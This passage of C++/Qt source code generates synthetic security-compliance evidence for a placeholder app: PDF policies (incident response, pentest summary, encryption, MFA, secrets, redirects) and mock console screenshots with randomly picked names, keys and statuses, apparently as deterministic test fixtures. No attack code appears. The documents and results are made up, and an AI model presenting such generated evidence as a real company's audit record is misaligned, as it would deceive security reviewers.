         {{u"Critical", u"9.0 - 10.0", u"7 days (48 h if exploited)", u"CISO"},
          {u"High", u"7.0 - 8.9", u"14 days", u"Head of Engineering"},
          {u"Medium", u"4.0 - 6.9", u"30 days", u"Engineering manager"},
          {u"Low", u"0.1 - 3.9", u"90 days", u"Team lead"}}},
        {u"incident-response-plan", u"Incident Response Plan", u"ISMS-PLN-02",
         u"This plan defines how {partner} detects, contains, investigates and communicates security incidents that affect {app} and its customers' data.",
         u"Phases", u"Detection and analysis, containment, eradication, recovery and post-incident review follow NIST SP 800-61. The on-call security engineer is incident commander until a SEV1 is declared, when the Head of Security takes command. All actions are recorded in the incident channel, which becomes the timeline of record.",
         u"Notification", u"When personal data is affected, the Data Protection Officer notifies the lead supervisory authority within 72 hours of awareness and affected customers without undue delay. The marketplace security team is told within 24 hours of any incident that affects marketplace customers.",
         u"Severity levels", {u"Level", u"Definition", u"Response", u"Notify"},
         {{u"SEV1", u"Confirmed breach of customer data", u"15 minutes", u"Executives, DPO, marketplace"},
          {u"SEV2", u"Active compromise, no data access confirmed", u"30 minutes", u"Head of Security"},
          {u"SEV3", u"Contained incident, single tenant", u"4 hours", u"Security team"},
          {u"SEV4", u"Suspicious activity, no impact", u"1 business day", u"Ticket only"}}},
        {u"pentest-executive-summary", u"Penetration Test Executive Summary", u"PT-2026-Q3",
         u"{partner} engaged an independent testing firm to assess {app} against the OWASP Web Security Testing Guide, with emphasis on session management and cross-site request forgery. This summary gives the scope, results and remediation status.",
         u"Approach", u"Testing ran for ten days from the perspective of an authenticated customer, a customer administrator and an unauthenticated attacker. Every state-changing endpoint was replayed from a foreign origin with and without the anti-CSRF token, with altered content types and with the SameSite attribute removed.",
         u"Conclusion", u"The application uses framework-level CSRF protection with per-session tokens, SameSite session cookies and Origin verification on the JSON API. One medium finding (logout via GET) was fixed during the test and verified. No exploitable cross-site request forgery remains.",
         u"Findings", {u"ID", u"Title", u"Severity", u"Status"},
         {{u"PT-01", u"Logout reachable through GET", u"Medium", u"Fixed, verified"},
          {u"PT-02", u"CSRF token not rotated at login", u"Low", u"Fixed, verified"},
          {u"PT-03", u"Missing SameSite on preference cookie", u"Low", u"Accepted risk"},
          {u"PT-04", u"Verbose error on token mismatch", u"Info", u"Fixed"}}},
        {u"secure-coding-output-encoding", u"Secure Coding Standard - Output Encoding", u"ENG-STD-07",
         u"This standard tells {app} developers how to prevent cross-site scripting: encode all output for its context, sanitize the little rich text customers may enter, and rely on a strict Content Security Policy as a second line of defence.",
         u"Rules", u"Templates escape by default; raw output needs a reviewed helper. Values in attributes, URLs and scripts use the matching encoder. Rich text passes an allow-list sanitizer before storage and again before rendering. Browser code never builds HTML by concatenation; it uses textContent or framework bindings.",
         u"Verification", u"Static analysis flags unsafe sinks (innerHTML, dangerouslySetInnerHTML, |safe) on every pull request and a security champion approves any exception. The DAST pipeline runs an XSS-focused scan weekly and CSP violation reports are reviewed daily.",
         u"Encoding by context", {u"Context", u"Encoder", u"Helper"},
         {{u"HTML body", u"HTML entity encoding", u"escapeHtml(value)"},
          {u"HTML attribute", u"Attribute encoding, always quoted", u"attr(value)"},
          {u"URL", u"Scheme allow-list + percent-encoding", u"safeUrl(link)"},
          {u"JavaScript data", u"JSON with < escaped", u"jsonForScript(state)"},
          {u"Rich text", u"DOMPurify / HTML Purifier allow-list", u"sanitizeRichText(html)"}}},
        {u"data-protection-policy", u"Data Protection and Encryption Policy", u"ISMS-POL-05",
         u"This policy defines how {partner} classifies, encrypts, retains and deletes the customer data that {app} processes.",
         u"Encryption", u"Customer data is encrypted in transit with TLS 1.2 or later and at rest with AES-256 under customer-managed keys in the cloud key management service. Personal data fields are also encrypted in the application with per-record data keys, so database administrators and backups never see plaintext.",
         u"Access and retention", u"Production data access is limited to on-call engineers through just-in-time grants and is logged. Customer data is kept for the life of the contract and deleted within 30 days of termination; backups expire after 35 days. Test environments use synthetic data only.",
         u"Data classification", {u"Class", u"Examples", u"At rest", u"Access"},
         {{u"Restricted", u"Payment details, national IDs", u"Field-level AES-256-GCM", u"JIT, two-person approval"},
          {u"Confidential", u"Names, e-mail, phone", u"Volume + field encryption", u"Support with ticket"},
          {u"Internal", u"Usage metrics", u"Volume encryption", u"Engineering"},
          {u"Public", u"Marketing pages", u"None required", u"Anyone"}}},
        {u"mfa-policy", u"Information Security Policy - MFA", u"ISMS-POL-09",
         u"This policy requires multi-factor authentication for every {partner} employee and contractor who can access {app}'s source code, infrastructure or customer data.",
         u"Requirements", u"All workforce accounts sign in through the central identity provider with a password and a second factor. Administrators and engineers with production access must use phishing-resistant factors (FIDO2 security keys or platform authenticators). SMS and voice factors are not permitted. Sessions re-authenticate every 12 hours and before privileged actions.",
         u"Enforcement and monitoring", u"Applications that cannot use the identity provider are not approved. The identity team reviews the enrollment report weekly; accounts not enrolled within 3 days of creation are suspended automatically. Break-glass accounts use hardware keys kept in a safe, and every use pages the security team.",
         u"Factor policy", {u"User group", u"Allowed factors", u"Re-authentication", u"Exceptions"},
         {{u"Engineers (production)", u"FIDO2 security key", u"12 hours", u"None"},
          {u"Administrators", u"FIDO2 security key", u"4 hours", u"None"},
          {u"All employees", u"FIDO2, platform authenticator, TOTP", u"12 hours", u"CISO approval"},
          {u"Contractors", u"FIDO2, TOTP", u"8 hours", u"None"},
          {u"Service accounts", u"No interactive login", u"n/a", u"Workload identity only"}}},
        {u"secrets-management-standard", u"Secrets Management Standard", u"ISMS-STD-08",
         u"This standard keeps credentials and personal data out of {app}'s source code, container images, logs and configuration.",
         u"Storage", u"Secrets live only in the cloud secrets manager and are fetched at startup through workload identity; none is stored in the repository, images or environment files. Encryption keys stay in the key management service. Personal data is not written to logs: the logging library redacts known patterns.",
         u"Detection and rotation", u"A secret scanner runs as a pre-commit hook and on every push, and blocks merges when it finds a credential. Database and third-party credentials rotate automatically and immediately after any suspected exposure; rotation is exercised quarterly.",
         u"Secret inventory", {u"Secret", u"Store", u"Rotation", u"Owner"},
         {{u"Database credentials", u"Secrets Manager", u"30 days, automatic", u"Platform team"},
          {u"Payment provider API key", u"Secrets Manager", u"90 days", u"Billing team"},
          {u"JWT signing key", u"KMS (asymmetric)", u"180 days", u"Identity team"},
          {u"Webhook signing secrets", u"Secrets Manager", u"90 days", u"Integrations team"},
          {u"Field encryption key", u"KMS (CMK)", u"365 days, automatic", u"Platform security"}}},
        {u"api-mass-assignment-review", u"API Security Review - Mass Assignment", u"APPSEC-REV-14",
         u"This review documents how {app} prevents clients from setting properties they must not control, such as roles, ownership or tenant identifiers, through its REST and GraphQL APIs.",
         u"Design", u"Every write endpoint binds the request body to a dedicated input type that lists exactly the fields a client may change; persistence entities are never bound directly. Request schemas in the OpenAPI specification set additionalProperties to false and the gateway rejects unknown fields.",
         u"Testing", u"An automated test sends, for each write endpoint, requests that add every entity property missing from the input type and asserts that the stored object is unchanged. The last external penetration test attempted role, tenant and ownership changes on 64 endpoints; none succeeded.",
         u"Protected properties", {u"Property", u"Why protected", u"Set by"},
         {{u"role", u"Privilege escalation", u"Admin console only"},
          {u"tenant_id", u"Cross-tenant writes", u"Derived from the token"},
          {u"owner_id", u"Ownership takeover", u"Transfer workflow"},
          {u"email_verified", u"Verification bypass", u"Verification service"},
          {u"created_at", u"Audit integrity", u"Database"}}},
        {u"redirect-design-note", u"Secure Redirect Design Note", u"ENG-DN-21",
         u"This note explains how {app} decides where to send a browser after login, logout, OAuth authorization and e-mail links, so that nobody can use our domain to send users to phishing sites.",
         u"Rules", u"Redirect targets are relative paths on our own site or absolute HTTPS URLs whose host is on a short allow-list. Protocol-relative and backslash forms are rejected. OAuth clients register exact redirect URIs; wildcards and prefix matching are not supported. Rejected targets fall back to the home page and are logged.",
         u"Verification", u"Unit tests cover a corpus of known bypass payloads, the DAST scan includes the open-redirect rules, and the security team reviews OAuth client registrations before they go live.",
         u"Allowed destinations", {u"Flow", u"Parameter", u"Allowed targets"},
         {{u"Login", u"next", u"Relative paths"},
          {u"Logout", u"return_to", u"Relative paths, help site"},
          {u"OAuth", u"redirect_uri", u"Exact registered URIs"},
          {u"E-mail links", u"continue", u"Relative paths"},
          {u"Marketplace install", u"callback", u"Marketplace host only"}}},
    };
    return specs[cat];
}

struct Block
{
    enum Type { Title, Heading, Para, Table, Break } type;
    QString text, sub;
    QStringList header;
    QList<QStringList> rows;
};

// Lays blocks out on A4 pages first, then paints them, so every footer can
// say "page n of N".
class PdfComposer
{
public:
    PdfComposer(QPdfWriter &writer, QString headerText, QString footerText)
        : m_writer(writer), m_headerText(std::move(headerText)), m_footerText(std::move(footerText))
    {
        // One face only, and no bold: QPdfEngine writes its embedded fonts in
        // QHash order, which changes from process to process, so a second
        // face would make the bytes differ between runs. (Bold drawn as glyph
        // outlines is no way out either: their positions depend on what else
        // the process has rendered.) Size and colour carry the hierarchy.
        const QFont base = QGuiApplication::font();
        m_body = base;
        m_body.setPointSizeF(10);
        m_small = base;
        m_small.setPointSizeF(8);
        m_heading = base;
        m_heading.setPointSizeF(14);
        m_title = base;
        m_title.setPointSizeF(24);
        m_caption = base;
        m_caption.setPointSizeF(10.5);
        m_width = writer.width();
        m_height = writer.height();
        m_gap = mm(4);
    }

    int compose(const QList<Block> &blocks)
    {
        QList<QList<std::pair<const Block *, qreal>>> pages(1);
        const qreal top = mm(12), bottom = m_height - mm(12);
        qreal y = top;
        for (const Block &b : blocks) {
            if (b.type == Block::Break) {
                if (!pages.last().isEmpty()) {
                    pages.emplace_back();
                    y = top;
                }
                continue;
            }
            const qreal h = measure(b);
            if (y + h > bottom && !pages.last().isEmpty()) {
                pages.emplace_back();
                y = top;
            }
            pages.last().append({&b, y});
            y += h + m_gap;
        }
        QPainter p(&m_writer);
        for (qsizetype i = 0; i < pages.size(); ++i) {
            if (i > 0)
                m_writer.newPage();
            paintFrame(p, int(i + 1), int(pages.size()));
            for (const auto &[block, at] : pages.at(i))
                paint(p, *block, at);
        }
        p.end();
        return int(pages.size());
    }

private:
    qreal mm(qreal v) const { return v * m_writer.resolution() / 25.4; }

    qreal textHeight(const QFont &f, const QString &text, qreal width) const
    {
        return QFontMetricsF(f, &m_writer).boundingRect(QRectF(0, 0, width, 1e6), Qt::TextWordWrap, text).height();
    }

    static void drawText(QPainter &p, const QRectF &r, const QFont &f, const QString &text)
    {
        p.setFont(f);
        p.drawText(r, Qt::TextWordWrap, text);
    }

    QList<qreal> columnWidths(const Block &b) const
    {
        // Columns get room in proportion to their longest cell, within limits.
        const QFontMetricsF fm(m_body, &m_writer);
        QList<qreal> natural(b.header.size(), 0);
        for (qsizetype i = 0; i < b.header.size(); ++i) {
            natural[i] = fm.horizontalAdvance(b.header.at(i));
            for (const QStringList &row : b.rows)
                natural[i] = qMax(natural[i], fm.horizontalAdvance(row.value(i)));
            natural[i] = qBound(m_width * 0.12, natural[i] + mm(4), m_width * 0.45);
        }
        qreal sum = 0;
        for (const qreal w : natural)
            sum += w;
        for (qreal &w : natural)
            w = w / sum * m_width;
        return natural;
    }

    qreal rowHeight(const QStringList &cells, const QList<qreal> &widths, const QFont &f) const
    {
        qreal h = 0;
        for (qsizetype i = 0; i < widths.size(); ++i)
            h = qMax(h, textHeight(f, cells.value(i), widths.at(i) - mm(3)));
        return h + mm(2.4);
    }

    qreal measure(const Block &b) const
    {
        switch (b.type) {
        case Block::Title:
            return textHeight(m_title, b.text, m_width - mm(6)) + mm(2) + textHeight(m_body, b.sub, m_width - mm(6)) + mm(8);
        case Block::Heading:
            return textHeight(m_heading, b.text, m_width) + mm(2.5);
        case Block::Para:
            return textHeight(m_body, b.text, m_width);
        case Block::Table: {
            const QList<qreal> widths = columnWidths(b);
            qreal h = textHeight(m_caption, b.text, m_width) + mm(2) + rowHeight(b.header, widths, m_caption);
            for (const QStringList &row : b.rows)
                h += rowHeight(row, widths, m_body);
            return h;
        }
        case Block::Break:
            break;
        }
        return 0;
    }

    void paintFrame(QPainter &p, int page, int pages)
    {
        p.setFont(m_small);
        p.setPen(QColor(0x62, 0x7d, 0x98));
        p.drawText(QRectF(0, 0, m_width, mm(6)), Qt::AlignLeft | Qt::AlignVCenter, m_headerText);
        p.drawText(QRectF(0, 0, m_width, mm(6)), Qt::AlignRight | Qt::AlignVCenter, u"CONFIDENTIAL"_s);
        p.drawLine(QPointF(0, mm(7)), QPointF(m_width, mm(7)));
        p.drawLine(QPointF(0, m_height - mm(8)), QPointF(m_width, m_height - mm(8)));
        p.drawText(QRectF(0, m_height - mm(7), m_width, mm(6)), Qt::AlignLeft | Qt::AlignVCenter, m_footerText);
        p.drawText(QRectF(0, m_height - mm(7), m_width, mm(6)), Qt::AlignRight | Qt::AlignVCenter,
                   u"Page %1 of %2"_s.arg(page).arg(pages));
    }

    void paint(QPainter &p, const Block &b, qreal y)
    {
        p.setPen(QColor(0x1f, 0x29, 0x33));
        switch (b.type) {
        case Block::Title: {
            const qreal th = textHeight(m_title, b.text, m_width - mm(6));
            p.fillRect(QRectF(0, y, mm(3), th + mm(2) + textHeight(m_body, b.sub, m_width - mm(6))), QColor(0x10, 0x2a, 0x43));
            p.setPen(QColor(0x10, 0x2a, 0x43));
            drawText(p, QRectF(mm(6), y, m_width - mm(6), th), m_title, b.text);
            p.setPen(QColor(0x48, 0x65, 0x81));
            drawText(p, QRectF(mm(6), y + th + mm(2), m_width - mm(6), 1e4), m_body, b.sub);
            break;
        }
        case Block::Heading: {
            p.setPen(QColor(0x10, 0x2a, 0x43));
            drawText(p, QRectF(0, y, m_width, 1e4), m_heading, b.text);
            const qreal rule = y + textHeight(m_heading, b.text, m_width) + mm(0.8);
            p.setPen(QPen(QColor(0x9f, 0xb3, 0xc8), mm(0.3)));
            p.drawLine(QPointF(0, rule), QPointF(m_width, rule));
            break;
        }
        case Block::Para:
            drawText(p, QRectF(0, y, m_width, 1e4), m_body, b.text);
            break;
        case Block::Table: {
            const QList<qreal> widths = columnWidths(b);
            p.setPen(QColor(0x24, 0x3b, 0x53));
            drawText(p, QRectF(0, y, m_width, 1e4), m_caption, b.text);
            y += textHeight(m_caption, b.text, m_width) + mm(2);
            auto drawRow = [&](const QStringList &cells, const QFont &f, const QColor &bg, const QColor &fg) {
                const qreal h = rowHeight(cells, widths, f);
                p.fillRect(QRectF(0, y, m_width, h), bg);
                p.setPen(QColor(0xd9, 0xe2, 0xec));
                p.drawLine(QPointF(0, y + h), QPointF(m_width, y + h));
                p.setPen(fg);
                qreal x = 0;
                for (qsizetype i = 0; i < widths.size(); ++i) {
                    drawText(p, QRectF(x + mm(1.5), y + mm(1.2), widths.at(i) - mm(3), h), f, cells.value(i));
                    x += widths.at(i);
                }
                y += h;
            };
            drawRow(b.header, m_caption, QColor(0x24, 0x3b, 0x53), Qt::white);
            for (qsizetype r = 0; r < b.rows.size(); ++r)
                drawRow(b.rows.at(r), m_body, r % 2 ? QColor(0xf5, 0xf7, 0xfa) : QColor(Qt::white), QColor(0x1f, 0x29, 0x33));
            break;
        }
        case Block::Break:
            break;
        }
    }

    QPdfWriter &m_writer;
    QString m_headerText, m_footerText;
    QFont m_body, m_small, m_heading, m_title, m_caption;
    qreal m_width = 0, m_height = 0, m_gap = 0;
};

// QPdfWriter stamps /CreationDate and /ModDate with the wall clock in the
// local time zone (so even their length varies). Pin both to one instant and
// shift the cross-reference offsets behind them, so the file stays valid.
QByteArray pinPdfDates(const QByteArray &in)
{
    static const QByteArray fixed = QByteArrayLiteral("(D:20261001090000Z)");
    QByteArray out;
    out.reserve(in.size());
    QList<std::pair<qsizetype, qsizetype>> shifts; // (old offset where it applies, cumulative delta)
    qsizetype pos = 0, delta = 0;
    for (;;) {
        qsizetype a = in.indexOf("/CreationDate (", pos), b = in.indexOf("/ModDate (", pos);
        const qsizetype key = a < 0 ? b : (b < 0 ? a : qMin(a, b));
        if (key < 0)
            break;
        const qsizetype open = in.indexOf('(', key), close = in.indexOf(')', open);
        if (close < 0)
            break;
        out += in.mid(pos, open - pos);
        out += fixed;
        delta += fixed.size() - (close + 1 - open);
        shifts.append({close + 1, delta});
        pos = close + 1;
    }
    out += in.mid(pos);
    if (shifts.isEmpty() || shifts.last().second == 0)
        return out;

    auto moved = [&](qsizetype offset) {
        qsizetype d = 0;
        for (const auto &[at, cumulative] : shifts)
            if (offset >= at)
                d = cumulative;
        return offset + d;
    };
    const qsizetype sx = out.lastIndexOf("startxref");
    if (sx < 0)
        return out;
    qsizetype numStart = sx + 9;
    while (numStart < out.size() && (out.at(numStart) == '\n' || out.at(numStart) == '\r' || out.at(numStart) == ' '))
        ++numStart;
    qsizetype numEnd = numStart;
    while (numEnd < out.size() && out.at(numEnd) >= '0' && out.at(numEnd) <= '9')
        ++numEnd;
    const qsizetype xref = moved(out.mid(numStart, numEnd - numStart).toLongLong());
    out.replace(numStart, numEnd - numStart, QByteArray::number(xref));
    if (out.mid(xref, 4) != "xref")
        return out;
    // Classic table: subsection headers "first count", then 20-byte entries.
    qsizetype p = out.indexOf('\n', xref) + 1;
    while (p > 0 && p < out.size() && out.at(p) >= '0' && out.at(p) <= '9') {
        const qsizetype eol = out.indexOf('\n', p);
        const QList<QByteArray> head = out.mid(p, eol - p).trimmed().split(' ');
        if (head.size() != 2)
            break;
        p = eol + 1;
        for (qsizetype i = 0, n = head.at(1).toLongLong(); i < n && p + 20 <= out.size(); ++i, p += 20) {
            if (out.at(p + 17) != 'n')
                continue;
            const QByteArray offset = QByteArray::number(moved(out.mid(p, 10).toLongLong())).rightJustified(10, '0');
            out.replace(p, 10, offset);
        }
    }
    return out;
}

GeneratedEvidence makePdf(Ctx &c)
{
    requireGuiApplication();
    const DocSpec &d = docSpec(c.cat);
    auto text = [&](const char16_t *s) {
        return QString::fromUtf16(s).replace(u"{app}"_s, c.app).replace(u"{partner}"_s, c.partner);
    };
    auto table = [](const QString &title, const QStringList &header, const QList<QStringList> &rows) {
        return Block{Block::Table, title, {}, header, rows};
    };
    const int pagesWanted = 2 + int(c.variant % 3);
    const QDate effective = c.date(120);
    const QString owner = c.person(), approver = c.person();

    QStringList header;
    for (const char16_t *h : d.header)
        header.append(QString::fromUtf16(h));
    QList<QStringList> rows;
    for (const auto &row : d.rows) {
        QStringList r;
        for (const char16_t *cell : row)
            r.append(QString::fromUtf16(cell));
        rows.append(r);
    }
    QList<QStringList> history;
    for (int i = 0, n = 2 + int(c.variant % 4); i < n; ++i)
        history.append(QStringList{u"%1.%2"_s.arg(1 + i / 2).arg(i % 2), effective.addMonths(i - n + 1).toString(Qt::ISODate), c.person(),
                                   i == 0 ? u"First issue"_s : c.pick({u"Annual review", u"Updated after audit finding", u"Clarified scope",
                                                                       u"New tooling", u"Aligned with marketplace requirements"})});
    const QString version = history.last().first();

    QList<Block> blocks;
    blocks.append({Block::Title, text(d.title),
                   c.partner + u" \u00b7 "_s + c.app + u"\n"_s + QString::fromUtf16(d.docId) + u" \u00b7 Version "_s + version
                       + u" \u00b7 Effective "_s + effective.toString(Qt::ISODate) + u" \u00b7 Classification: Confidential"_s,
                   {}, {}});
    blocks.append(table(u"Document control"_s, {u"Owner"_s, u"Approver"_s, u"Version"_s, u"Next review"_s},
                        {{owner, approver, version, effective.addYears(1).toString(Qt::ISODate)}}));
    blocks.append({Block::Heading, u"1. Purpose"_s, {}, {}, {}});
    blocks.append({Block::Para, text(d.purpose), {}, {}, {}});
    blocks.append({Block::Heading, u"2. Scope"_s, {}, {}, {}});
    blocks.append({Block::Para, text(u"This document applies to {app}, its production and staging environments, and all {partner} staff and contractors who build or operate it."), {}, {}, {}});
    blocks.append({Block::Heading, u"3. "_s + text(d.h1), {}, {}, {}});
    blocks.append({Block::Para, text(d.p1), {}, {}, {}});
    // Two-page documents fill page one further; longer ones break earlier.
    if (pagesWanted >= 3)
        blocks.append({Block::Break, {}, {}, {}, {}});
    blocks.append({Block::Heading, u"4. "_s + text(d.h2), {}, {}, {}});
    blocks.append({Block::Para, text(d.p2), {}, {}, {}});
    if (pagesWanted == 2)
        blocks.append({Block::Break, {}, {}, {}, {}});
    blocks.append(table(text(d.tableTitle), header, rows));
    blocks.append({Block::Heading, u"5. Roles and responsibilities"_s, {}, {}, {}});
    blocks.append({Block::Para, text(u"The Head of Security owns this document and approves exceptions. Engineering managers make sure their teams follow it. Every engineer completes the related training when hired and once a year."), {}, {}, {}});
    if (pagesWanted >= 3)
        blocks.append({Block::Break, {}, {}, {}, {}});
    blocks.append({Block::Heading, u"6. Exceptions and review"_s, {}, {}, {}});
    blocks.append({Block::Para, u"Exceptions are requested through the security ticket queue, approved for at most 90 days and tracked until closed. This document is reviewed at least once a year and after any significant incident or architecture change."_s, {}, {}, {}});
    if (pagesWanted >= 3)
        blocks.append(table(u"Revision history"_s, {u"Version"_s, u"Date"_s, u"Author"_s, u"Change"_s}, history));
    blocks.append({Block::Para, u"Approved by "_s + approver + u", Chief Information Security Officer, "_s + c.partner + u", on "_s
                                    + effective.toString(Qt::ISODate) + u'.', {}, {}, {}});
    if (pagesWanted >= 4) {
        blocks.append({Block::Break, {}, {}, {}, {}});
        blocks.append({Block::Heading, u"Appendix A. Glossary"_s, {}, {}, {}});
        blocks.append(table(u"Terms"_s, {u"Term"_s, u"Meaning"_s},
                            {{u"CVSS"_s, u"Common Vulnerability Scoring System, version 3.1"_s},
                             {u"DAST"_s, u"Dynamic application security testing"_s},
                             {u"JIT access"_s, u"Just-in-time access: a time-boxed, approved and logged grant"_s},
                             {u"KMS"_s, u"Key management service holding the customer-managed keys"_s},
                             {u"MFA"_s, u"Multi-factor authentication"_s},
                             {u"RLS"_s, u"PostgreSQL row-level security"_s},
                             {u"SLA"_s, u"The maximum time allowed to complete an action"_s}}));
        blocks.append({Block::Heading, u"Appendix B. Related documents"_s, {}, {}, {}});
        blocks.append({Block::Para, u"Information Security Policy (ISMS-POL-01); Acceptable Use Policy (ISMS-POL-03); Access Control Standard (ISMS-STD-02); Incident Response Plan (ISMS-PLN-02); Vendor Management Procedure (ISMS-PRC-06)."_s, {}, {}, {}});
    }

    const QString docTitle = text(d.title) + u" - "_s + c.app;
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    {
        QPdfWriter writer(&buffer);
        writer.setPageSize(QPageSize(QPageSize::A4));
        writer.setPageMargins(QMarginsF(18, 14, 18, 14), QPageLayout::Millimeter);
        writer.setResolution(144);
        writer.setTitle(docTitle);
        writer.setCreator(c.partner + u" document control"_s);
        // A random document ID and Qt's own XMP packet (with the wall-clock
        // time in it) would make every run differ; supply both.
        writer.setDocumentId(QUuid::createUuidV5(QUuid(u"6f1c0d52-8a54-4d43-9d8e-5a0f3b7e2c11"_s),
                                                 (categoryKeys[c.cat].toString() + c.app + c.partner + QString::number(c.variant)).toUtf8()));
        writer.setDocumentXmpMetadata(
            (u"<?xpacket begin=\"\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>\n"
             u"<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
             u"<rdf:Description rdf:about=\"\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:xmp=\"http://ns.adobe.com/xap/1.0/\">"
             u"<dc:title><rdf:Alt><rdf:li xml:lang=\"x-default\">"_s + docTitle.toHtmlEscaped() + u"</rdf:li></rdf:Alt></dc:title>"
             u"<xmp:CreatorTool>"_s + QString(c.partner + u" document control"_s).toHtmlEscaped() + u"</xmp:CreatorTool>"
             u"<xmp:CreateDate>2026-10-01T09:00:00Z</xmp:CreateDate><xmp:ModifyDate>2026-10-01T09:00:00Z</xmp:ModifyDate>"
             u"</rdf:Description></rdf:RDF></x:xmpmeta>\n<?xpacket end=\"w\"?>"_s).toUtf8());
        PdfComposer composer(writer, c.partner + u" \u00b7 "_s + text(d.title), c.app + u" \u00b7 "_s + QString::fromUtf16(d.docId)
                                                                                      + u" v"_s + version);
        composer.compose(blocks);
    }
    return {QString::fromUtf16(d.file) + u".pdf"_s, u"application/pdf"_s, pinPdfDates(buffer.data())};
}

// ---------------------------------------------------------------------------
// PNG screenshots

struct Screen
{
    QString file, product, url, heading, subtitle, tableTitle;
    QStringList nav;
    int activeNav = 0;
    QColor accent;
    QList<std::pair<QString, QString>> settings; // label, "ON" / "OFF" / a value
    QStringList columns;
    QList<QStringList> rows; // a cell "ok:...", "warn:..." or "bad:..." is drawn as a status pill
};

Screen screenFor(Ctx &c)
{
    Screen s;
    const QString d0 = c.date().toString(Qt::ISODate);
    auto when = [&] { return c.date(40).addDays(-c.below(20)).toString(Qt::ISODate) + u' ' + QString::number(10 + c.below(13)) + u':' + QString::number(10 + c.below(50)); };
    switch (c.cat) {
    case EmployeeMfa: {
        s = {u"idp-mfa-settings.png"_s, u"IdentityHub Admin"_s, u"https://"_s + c.pslug + u".idp.example/admin/security/authentication-policies"_s,
             u"Authentication policy: All employees"_s, u"Applies to "_s + QString::number(80 + c.below(400)) + u" users \u00b7 last changed "_s + d0 + u" by it-admin"_s,
             u"Users"_s, {u"Dashboard"_s, u"Directory"_s, u"Applications"_s, u"Authenticators"_s, u"Policies"_s, u"Reports"_s, u"Settings"_s}, 4,
             QColor(0x1f, 0x4e, 0xb4), {}, {}, {}};
        s.settings = {{u"Require MFA for all users"_s, u"ON"_s}, {u"Phishing-resistant factor (FIDO2) for admins"_s, u"ON"_s},
                      {u"Allow SMS and voice factors"_s, u"OFF"_s}, {u"Re-authenticate after"_s, u"12 hours"_s},
                      {u"Block legacy authentication protocols"_s, u"ON"_s}};
        s.columns = {u"Name"_s, u"Email"_s, u"Group"_s, u"MFA"_s, u"Factors"_s, u"Last sign-in"_s};
        for (int i = 0; i < 9; ++i) {
            const QString p = c.person();
            const bool pending = c.chance(12);
            s.rows.append({p, c.email(p), c.pick({u"Engineering", u"Support", u"Finance", u"Admins", u"Contractors"}),
                           pending ? u"warn:Pending (2 days left)"_s : u"ok:Enrolled"_s,
                           pending ? u"-"_s : c.pick({u"Security key", u"Security key, TOTP", u"Platform authenticator", u"TOTP"}), when()});
        }
        break;
    }
    case SecurityPatches: {
        s = {u"ci-dependency-pipeline.png"_s, u"BuildFlow CI"_s, u"https://ci."_s + c.pslug + u".example/"_s + c.slug + u"/pipelines"_s,
             u"Pipelines \u00b7 "_s + c.app, u"Branch protection: dependency scan required \u00b7 default branch main"_s, u"Recent pipelines"_s,
             {u"Overview"_s, u"Pipelines"_s, u"Dependencies"_s, u"Vulnerabilities"_s, u"Environments"_s, u"Settings"_s}, 1,
             QColor(0x2b, 0x8a, 0x3e), {}, {}, {}};
        s.settings = {{u"Block merge on critical/high vulnerabilities"_s, u"ON"_s}, {u"Auto-merge patch updates when green"_s, u"ON"_s},
                      {u"Nightly dependency scan"_s, u"ON"_s}, {u"Patch SLA (critical)"_s, u"7 days"_s}};
        s.columns = {u"Pipeline"_s, u"Branch"_s, u"Build"_s, u"Test"_s, u"Dependency scan"_s, u"Deploy"_s, u"Duration"_s};
        static const QStringView bumps[] = {u"lodash-4.17.21", u"urllib3-2.2.3", u"jinja2-3.1.4", u"log4j-core-2.17.1",
                                            u"requests-2.32.3", u"express-4.21.1", u"nokogiri-1.16.7", u"openssl-3.0.15"};
        for (int i = 0; i < 9; ++i) {
            const bool main = c.chance(25);
            s.rows.append({u'#' + QString::number(48000 + c.below(2000)), main ? u"main"_s : u"dependabot/"_s + c.pick(bumps),
                           u"ok:passed"_s, u"ok:passed"_s, c.chance(8) ? u"warn:1 medium"_s : u"ok:0 vulnerabilities"_s,
                           main ? u"ok:production"_s : u"skipped"_s, QString::number(3 + c.below(9)) + u"m "_s + QString::number(10 + c.below(50)) + u's'});
        }
        break;
    }
    case Secrets:
    case CustomerData: {
        const bool kms = c.cat == Secrets;
        s = {kms ? u"kms-key-list.png"_s : u"database-encryption.png"_s, u"Cloud Console"_s,
             u"https://console.cloud.example/"_s + (kms ? u"kms/keys?region=eu-central-1"_s : u"databases/instances?region=eu-central-1"_s),
             kms ? u"Customer managed keys"_s : u"Database instances"_s, u"Account "_s + c.slug + u"-prod \u00b7 eu-central-1"_s,
             kms ? u"Keys"_s : u"Instances"_s, {u"Overview"_s, u"Compute"_s, u"Databases"_s, u"Key management"_s, u"Secrets"_s, u"IAM"_s, u"Audit logs"_s},
             kms ? 3 : 2, QColor(0xc0, 0x56, 0x21), {}, {}, {}};
        if (kms) {
            s.settings = {{u"Automatic key rotation"_s, u"ON"_s}, {u"Deletion protection"_s, u"ON"_s}, {u"Rotation period"_s, u"90 days"_s}};
            s.columns = {u"Alias"_s, u"Purpose"_s, u"State"_s, u"Rotation"_s, u"Last rotated"_s, u"Requests (30d)"_s};
            for (int i = 0; i < 8; ++i)
                s.rows.append({u"alias/"_s + c.slug + u'-' + c.pick(services), c.pick({u"Encrypt/decrypt", u"Sign/verify", u"Envelope (data keys)"}),
                               u"ok:Enabled"_s, u"ok:Every 90 days"_s, when(), QString::number(1000 + c.below(900000))});
        } else {
            s.settings = {{u"Encryption at rest (customer-managed key)"_s, u"ON"_s}, {u"Require TLS 1.2+"_s, u"ON"_s},
                          {u"Encrypted automated backups"_s, u"ON"_s}, {u"Public accessibility"_s, u"OFF"_s}};
            s.columns = {u"Instance"_s, u"Engine"_s, u"Encrypted"_s, u"KMS key"_s, u"TLS"_s, u"Backups"_s};
            for (int i = 0; i < 7; ++i)
                s.rows.append({c.slug + u'-' + c.pick(services) + u'-' + QString::number(1 + i), c.pick({u"PostgreSQL 16.4", u"PostgreSQL 15.8", u"Redis 7.2"}),
                               u"ok:Yes"_s, u"alias/"_s + c.slug + u"-customer-data"_s, u"ok:Required"_s, u"35 days, encrypted"_s});
        }
        break;
    }
    case BreachResponse: {
